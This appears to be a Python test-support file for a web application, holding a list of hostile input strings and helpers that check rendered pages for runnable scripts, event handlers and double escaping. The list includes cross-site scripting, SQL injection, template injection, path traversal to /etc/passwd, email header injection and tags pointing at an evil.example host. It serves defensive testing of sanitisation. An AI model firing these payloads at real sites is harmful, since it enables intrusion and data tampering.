"""Strings that have broken other sites: a few of our own making, and those of the shared files."""

from neighbourhood.foundation.words.sanitising import clean_text
from tests.support.markup import Markup

WAYS_IN = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    '"><script>alert(1)</script>',
    "'\"><img src=x onerror='alert(1)'>",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    '" autofocus onfocus="alert(1)',
    "' onmouseover='alert(1)",
    "<a href=javascript:alert(1)>ici</a>",
    "javascript:alert(1)",
    'https://example.org/"onmouseover="alert(1)',
    "https://example.org/'><script>alert(1)</script>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<base href='https://evil.example/'>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<form action=https://evil.example><input name=csrf_token>",
    "{{ 7 * 7 }}{% print config %}",
    "%(name)s %s %d {0} ${7*7} #{7*7}",
    "<!--#exec cmd=id--><![CDATA[x]]>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#x3C;script&#x3E;alert(1)",
    "';alert(1);//",
    "`${alert(1)}`",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "' OR 1=1; DROP TABLE notice; --",
    "Robert'); DELETE FROM resident;--",
    "\u202egnp.exe\u202c",
    "zero\u200bwidth\u2060joiner\ufeff",
    "null\x00byte\x1b[31m",
    "ｆｕｌｌ ｗｉｄｔｈ ＜script＞",
    "à́̂̃̄̅̆̇̈̉̊̋̌̍̎̏ entassés",
    "نص من اليمين إلى اليسار",
    "田中さん 👩‍👩‍👧‍👦 🏳️‍🌈",
    "../../../../etc/passwd",
    "a" * 300,
    "\n\n\n\nquatre lignes\r\n\r\n\r\nvides",
    "   \u00a0 espaces \u2003 partout   ",
    "Subject: injecté\r\nBcc: evil@example.org",
)


def packed(strings: list[str], limit: int) -> list[str]:
    """Put many strings into few texts, a line for each, none longer than `limit`."""
    texts, lines, size = [], [], 0
    for said in strings:
        line = clean_text(said, one_line=True)[:limit]
        if size + len(line) + 1 > limit:
            texts.append("\n".join(lines))
            lines, size = [], 0
        lines.append(line)
        size += len(line) + 1
    return [text for text in (*texts, "\n".join(lines)) if text.strip()]


def shape(page: str) -> set[tuple[str, tuple[str, ...]]]:
    """Return what a page is made of, without what it says: its tags and their attributes."""
    return {(tag, tuple(sorted(attrs))) for tag, attrs in Markup(page).tags}


def runs(page: str) -> list[str]:
    """Return what could run in a page: scripts that are not ours, handlers, addresses that act."""
    markup = Markup(page)
    found = [code for code in markup.code if code.strip()]
    for tag, attrs in markup.tags:
        found += [f"<{tag} {name}>" for name in attrs if name.startswith("on") or name == "srcdoc"]
        addresses = (attrs.get(name, "") for name in ("href", "src", "action", "formaction"))
        acting = ("javascript:", "data:text", "vbscript:")
        found += [said for said in addresses if said.strip().lower().startswith(acting)]
        found += [attrs["src"] for _ in (1,) if tag == "script" and "/static/" not in attrs["src"]]
    return found


def says(page: str, text: str) -> bool:
    """Tell whether a page shows `text` or keeps it in a field, escaped once and only once."""
    markup = Markup(page)
    kept = [value for _tag, attrs in markup.tags for value in attrs.values()]
    wanted = _dense(clean_text(text))
    return wanted in _dense("".join(markup.text)) or any(wanted in _dense(one) for one in kept)


def _dense(text: str) -> str:
    return "".join(text.split())
